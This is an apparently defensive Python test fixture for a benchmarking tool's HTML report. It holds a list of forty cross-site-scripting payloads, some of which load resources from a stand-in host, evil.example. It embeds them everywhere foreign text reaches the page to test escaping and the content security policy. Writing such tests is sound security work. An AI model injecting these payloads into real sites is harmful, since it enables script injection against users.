"""Payloads, and pages that carry them in every channel through which foreign text reaches the report."""

from __future__ import annotations

import json
import re
from collections.abc import Sequence
from copy import deepcopy
from functools import cache
from typing import Any

import factory
import numpy as np
from markupsafe import escape

from triage_bench.core.dataset import DatasetSummary, Provenance
from triage_bench.core.exhibit import Doubt, Exhibit, Neighbour, Point, ShownRow
from triage_bench.core.explanation import ExplainedText, Explanation
from triage_bench.core.job import Job, Recipe
from triage_bench.core.plan import Plan
from triage_bench.core.protocol import Protocol, Tuning
from triage_bench.core.record import Predictions, RunRecord, Trial
from triage_bench.core.run import Run
from triage_bench.core.sentence import Notice, Sentence
from triage_bench.report.format import visible
from triage_bench.report.page import render_page
from triage_bench.report.view import build_view

PARTS = 5
"""Pages over which the payloads are spread; each page has its payloads in all channels."""

PAYLOADS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    "<svg onload=alert(4)>",
    "<svg><script>alert(5)</script></svg>",
    "<body onload=alert(6)>",
    "<iframe srcdoc='<script>parent.alert(7)</script>'>",
    "<iframe src=javascript:parent.alert(8)>",
    '"><img src=x onerror=alert(9)>',
    "' onmouseover=alert(10) x='",
    '" autofocus onfocus=alert(11) tabindex=0 x="',
    "<input autofocus onfocus=alert(12)>",
    "<details open ontoggle=alert(13)>",
    "<video><source onerror=alert(14)></video>",
    "<audio src=x onerror=alert(15)>",
    "<object data=javascript:alert(16)>",
    "<embed src=javascript:alert(17)>",
    "<a href=javascript:alert(18) autofocus>x</a>",
    "<math><mtext></mtext><img src=x onerror=alert(19)>",
    "<style>@import 'http://evil.example/a.css';</style>",
    "<link rel=stylesheet href=http://evil.example/b.css>",
    "<img src=http://evil.example/c.png>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example/><button autofocus>",
    "</title><script>alert(25)</script>",
    "</style><script>alert(26)</script>",
    "</td></tr></table><script>alert(27)</script>",
    "--><script>alert(28)</script><!--",
    "]]><script>alert(29)</script>",
    "{{ ''.__class__ }}<img src onerror=alert(30)>",
    "{% raw %}<svg/onload=alert(31)>",
    "${alert(32)}<img/src/onerror=alert(32)>",
    "<ScRiPt>alert(33)</sCrIpT>",
    "<img src=x onerror=&#97;lert(34)>",
    "<svg><animate onbegin=alert(35) attributeName=x dur=1s>",
    "<svg><title><img src=x onerror=alert(36)></title></svg>",
    "<svg><foreignObject><img src=x onerror=alert(37)>",
    "<script src=http://evil.example/d.js></script>",
    "<script type=module>alert(39)</script>",
    "<marquee onstart=alert(40)>급성 흉통</marquee>",
)
"""Forty, each short enough to be shown uncut. `<meta http-equiv=refresh>` is not among them: no policy stops it."""

ROWS, FOLDS = 240, 2


@cache
def page_of(payloads: tuple[str, ...]) -> str:
    """Return a page with every payload in all channels.

    As label, file, column, model, unit, parameter, exception and drawn name; as a text that is shown with the
    words that decided, as a neighbour's text, as a row to look at again, and as what a model goes by.
    """
    run = _run(payloads)
    return render_page(build_view(run, exhibits={payloads[0]: _exhibit(run, payloads)}))


def escaped(payload: str) -> str:
    """Return what a payload looks like in the page."""
    return str(escape(visible(payload)))


def without_policy(page: str) -> str:
    """Take the content security policy out: escaping alone."""
    bare, removed = re.subn(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", page)
    assert removed == 1
    return bare


def without_escaping(page: str, payloads: Sequence[str]) -> str:
    """Put every payload in as it came: the policy alone."""
    for payload in payloads:
        for written in {escaped(payload), payload.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")}:
            page = page.replace(written, payload)
    return page


def repeated(view: dict[str, Any], times: int) -> dict[str, Any]:
    """Return a view of as many data sets, each like the one it has."""
    (name,) = (one["name"] for one in view["datasets"])
    large = deepcopy(view)
    for part, entries in view.items():
        if isinstance(entries, list):
            large[part] = [_renamed(one, name, copy) for copy in range(times) for one in entries]
    large["tally"] = {f"{name}-{copy}": counts for copy in range(times) for counts in view["tally"].values()}
    return large


def _renamed(entry: Any, name: str, copy: int) -> Any:
    written = json.dumps(entry, ensure_ascii=False).replace(f'"{name}"', f'"{name}-{copy}"')
    identities = set(re.findall(r'"([0-9a-f]{12})"', written))
    for one in identities:
        written = written.replace(one, f"{copy:02x}{one[2:]}")
    return json.loads(written)


def _run(payloads: Sequence[str]) -> Run:
    joined = " ".join(payloads)
    summary = DatasetSummary(
        name=payloads[0],
        digest="5f0c" * 8,
        rows=ROWS,
        classes={payload: ROWS // len(payloads) for payload in payloads},
        provenance=Provenance(title=payloads[1], origin=payloads[2], licence=payloads[3], private=True),
        notices=tuple(Notice("labels.column", 1, 9, Sentence(f"열 {one!r}", f"column {one!r}")) for one in payloads),
        words={"telling": tuple(payloads)},
    )
    missing = DatasetSummary(name=payloads[-1], status="skipped", reason=joined)
    labels = np.arange(ROWS) % len(payloads)
    jobs, records = [], {}
    for place, payload in enumerate(payloads):
        other = payloads[(place + 1) % len(payloads)]
        sound, broken = Recipe(payload, {"tokenizer": other}), Recipe("broken", {"option": other})
        for recipe in (sound, broken):
            for fold in range(FOLDS):
                tuning = Tuning(trials=3) if place % 2 else Tuning()
                job = Job(
                    summary.name, summary.digest, recipe, Protocol("stratified", folds=FOLDS, tuning=tuning), 0, fold
                )
                jobs.append(job)
                records[job.key] = _record(job, labels, payloads, payload, broken=recipe is broken)
    command = ("triage-bench", "diagnose", joined)
    return Run(Plan(joined, "quick", 0, command, (summary, missing), tuple(jobs)), records)


def _exhibit(run: Run, payloads: Sequence[str]) -> Exhibit:
    def text_of(row: int) -> str:
        return payloads[row % len(payloads)]

    explained = [text.row for one in run.records.values() if one.explanation for text in one.explanation.texts]
    return Exhibit(
        dataset=payloads[0],
        texts=True,
        shown=tuple(
            ShownRow(row, row, row % len(payloads), text_of(row), (Neighbour(row + 1, 0, 0.5, text_of(row + 1)),))
            for row in sorted(set(explained))
        ),
        points=tuple(Point(row, row * 37 % 1000, row * 91 % 1000) for row in range(0, ROWS, 4)),
        agreement=0.6,
        chance=0.2,
        doubts=tuple(Doubt(row, one, one, payloads[0], 0.1, 0.8, 0.7, 0.01) for row, one in enumerate(payloads)),
        doubted=len(payloads),
    )


def _explanation(job: Job, payloads: Sequence[str], answers: Predictions) -> Explanation:
    said = tuple(tuple((one, 0.9) for one in payloads) for _ in payloads)
    whole = {row: (0, len(payloads[row % len(payloads)]), 0.9) for row in answers.rows.tolist()}
    return Explanation(
        method="weights",
        unit=job.recipe.tokenizer,
        grams=said,
        words=said,
        texts=tuple(
            ExplainedText(row, code, (whole[row],), (whole[row],))
            for row, code in zip(answers.rows.tolist(), answers.predicted.tolist(), strict=True)
        ),
        rows=len(answers),
    )


def _record(job: Job, labels: Any, payloads: Sequence[str], payload: str, *, broken: bool) -> RunRecord:
    environment = {**factory.ENVIRONMENT, "system": payload}
    if broken:
        return RunRecord(job, "failed", f"ValueError: {payload}", environment=environment)
    rows = np.flatnonzero(np.arange(ROWS) // 7 % FOLDS == job.fold)
    classes = int(labels.max()) + 1
    predicted = np.where(rows % 3 == 0, (labels[rows] + 1) % classes, labels[rows])
    probabilities = np.full((len(rows), classes), 0.3 / (classes - 1), dtype=np.float32)
    probabilities[np.arange(len(rows)), predicted] = 0.7
    trials = tuple(
        Trial({payload: payload}, None if n == 2 else 0.5 + n / 10, "failed" if n == 2 else "complete", 0.1, payload)
        for n in range(job.protocol.tuning.trials)
    )
    answers = Predictions(rows, labels[rows], predicted, probabilities, rows)
    return RunRecord(
        job,
        "ok",
        predictions=answers,
        params={payload: payload},
        trials=trials,
        history=tuple({"epoch": float(n), "train_loss": 2.0 / n, "validation_loss": 2.1 / n} for n in (1, 2, 3)),
        timings={"fit": 0.1, "predict": 0.1, "total": 0.2},
        environment=environment,
        notices=(Notice("model.said", 1, 1, Sentence(payload, payload)),),
        explanation=_explanation(job, payloads, answers),
    )
